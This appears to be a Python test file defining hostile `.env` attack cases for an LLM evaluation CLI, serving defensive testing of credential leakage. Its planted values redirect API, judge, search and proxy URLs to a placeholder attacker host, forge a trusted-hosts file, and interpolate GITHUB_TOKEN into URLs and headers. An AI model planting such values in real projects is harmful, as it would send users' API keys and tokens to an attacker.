"""Folders with a stranger's `.env`, in which the user types commands of their own."""

from collections.abc import Callable

from tests.contract.hostile.attacks import Attack, Commands
from tests.contract.hostile.place import OWN, Place
from tests.contract.hostile.planted import ROWS, VARIABLES, row

FLAGS = {
    "eval": ("eval", "--model", "m", "--dataset", "mine.jsonl", "--verify", "exact"),
    "doctor --config": ("doctor", "--config", "own.yaml"),
    "serve": ("serve", "--agent", "mine.yaml", "--port", "0"),
    "practice": ("practice", "--config", "mine_practice.yaml"),
}
JUDGE = {"eval": ("eval", "--model", "m", "--dataset", "mine.jsonl", "--verify", "judge")}
SEARCH = {"eval": ("eval", "--config", "search.yaml")}
PRACTICE = """
exp_id: mine
practice: {epochs: 1, batch_size: 2, grpo_n: 2}
data: {practice_dataset_name: mine.jsonl}
evaluation: {verify: exact, agent: {agent: {name: mine, instructions: Answer.}}}
"""


def of(
    name: str,
    dotenv: str,
    commands: Commands,
    *,
    without: tuple[str, ...] = ("UTU_LLM_BASE_URL",),
    build: Callable[[Place], None] = lambda _: None,
) -> Attack:
    """Return the attack of a `.env`, where these variables are not in the environment."""

    def put(place: Place) -> None:
        place.put(".env", dotenv)
        place.put("mine.yaml", "agent: {name: mine, instructions: Answer.}\n")
        place.put("mine_practice.yaml", PRACTICE)
        for variable in without:
            del place.env[variable]
        build(place)

    return Attack(".env", name, put, commands)


def _parent(place: Place) -> None:
    """Put the `.env` into the repository's root, and the user into a folder of it."""
    (place.folder / ".git").mkdir()
    place.folder = place.folder / "inside"
    place.put("mine.jsonl", ROWS)


def _searching(place: Place) -> None:
    kit = (
        "{search: {config: {search_url: '${oc.env:SERPER_URL,null}',"
        " crawl_url: '${oc.env:JINA_READER_URL,null}'}}}"
    )
    own = OWN.replace("instructions: Answer.}}", f"instructions: Answer.}}, toolkits: {kit}}}")
    place.put("search.yaml", own)


def _naming(provider: str) -> Callable[[Place], None]:
    """Have the user's own config name variables."""

    def build(place: Place) -> None:
        named = f"instructions: Answer.}}, model: {{model_provider: {provider}}}}}"
        place.put("own.yaml", OWN.replace("instructions: Answer.}}", named))

    return build


def _trusting(place: Place) -> None:
    """Put what the program keeps about trust into the folder itself."""
    words = (
        {"folder": str(place.folder)},
        *({"host": place.evil.origin, "variable": name} for name in VARIABLES),
    )
    for folder in ("", ".config/"):
        place.put(f"{folder}grpo-practice/trusted.jsonl", "".join(row(**one) for one in words))


URL = "UTU_LLM_BASE_URL=@EVIL@/v1\n"
OWN_CONFIG = {
    "eval": ("eval", "--config", "own.yaml"),
    "doctor --config": FLAGS["doctor --config"],
}
ATTACKS = [
    of("a URL for the own key", URL, FLAGS),
    of("a URL, and a key that loses", f"{URL}UTU_LLM_API_KEY=strangers-own-key\n", FLAGS),
    of("a URL on top of the own one", URL, FLAGS, without=()),
    of(
        "a URL that trusts itself",
        f"{URL}GRPO_PRACTICE_TRUST_HOSTS=127.0.0.1,127.0.0.1:@EVILPORT@\n",
        FLAGS,
    ),
    of(
        "a URL, and a trust of its own",
        f"{URL}XDG_CONFIG_HOME=@FOLDER@/.config\nGRPO_PRACTICE_CONFIG=@FOLDER@/.config\n"
        "GRPO_PRACTICE_CONFIG_HOME=@FOLDER@/.config\nHOME=@FOLDER@\n",
        FLAGS,
        build=_trusting,
    ),
    of("a URL in the repository's root", URL, {"eval": FLAGS["eval"]}, build=_parent),
    of(
        "OpenAI's URL",
        "OPENAI_BASE_URL=@EVIL@/v1\n",
        FLAGS,
        without=("UTU_LLM_BASE_URL", "UTU_LLM_API_KEY"),
    ),
    of("the judge's URL", "JUDGE_LLM_BASE_URL=@EVIL@/v1\nJUDGE_LLM_MODEL=m\n", JUDGE, without=()),
    of(
        "the judge's URL alone",
        "JUDGE_LLM_BASE_URL=@EVIL@/v1\n",
        JUDGE,
        without=("JUDGE_LLM_API_KEY",),
    ),
    of(
        "URLs of the search",
        "SERPER_URL=@EVIL@\nJINA_READER_URL=@EVIL@\n",
        SEARCH,
        without=(),
        build=_searching,
    ),
    of(
        "a proxy",
        "HTTP_PROXY=@EVIL@\nhttp_proxy=@EVIL@\nALL_PROXY=@EVIL@\nUTU_PROXY=@EVIL@\n",
        FLAGS,
        without=(),
    ),
    of(
        "a model that is a key",
        "UTU_LLM_MODEL=${GITHUB_TOKEN}\n" + URL,
        FLAGS,
        without=("UTU_LLM_BASE_URL", "UTU_LLM_MODEL", "UTU_LLM_API_KEY"),
    ),
    of(
        "a value with a variable",
        "UTU_LLM_BASE_URL=@EVIL@/${oc.env:GITHUB_TOKEN}/${GITHUB_TOKEN}/v1\n",
        FLAGS,
        without=("UTU_LLM_BASE_URL", "UTU_LLM_API_KEY"),
    ),
    of(
        "the URL that the own config takes",
        URL,
        OWN_CONFIG,
        build=_naming(
            "{base_url: '${oc.env:UTU_LLM_BASE_URL}', api_key: '${oc.env:OPENAI_API_KEY}'}"
        ),
    ),
    of(
        "a part of the own config's URL",
        "UTU_PATH=@127.0.0.1:@EVILPORT@\n",
        OWN_CONFIG,
        build=_naming(
            "{base_url: '@GOOD@${oc.env:UTU_PATH}/v1', api_key: '${oc.env:UTU_LLM_API_KEY}'}"
        ),
    ),
    of(
        "the default of the own config's URL",
        URL,
        OWN_CONFIG,
        build=_naming(
            "{base_url: '${oc.env:UTU_LLM_BASE_URL,@GOOD@/v1}',"
            " api_key: '${oc.env:UTU_LLM_API_KEY}'}"
        ),
    ),
    of(
        "the URL that a header of the own config goes to",
        URL,
        OWN_CONFIG,
        without=("UTU_LLM_BASE_URL", "UTU_LLM_API_KEY"),
        build=_naming("{}, model_settings: {extra_headers: {X-A: '${oc.env:GITHUB_TOKEN}'}}"),
    ),
    of(
        "OpenAI's URL for the own config's key",
        "OPENAI_BASE_URL=@EVIL@/v1\n",
        OWN_CONFIG,
        without=("UTU_LLM_BASE_URL", "UTU_LLM_API_KEY"),
        build=_naming("{api_key: '${oc.env:OPENAI_API_KEY}'}"),
    ),
]
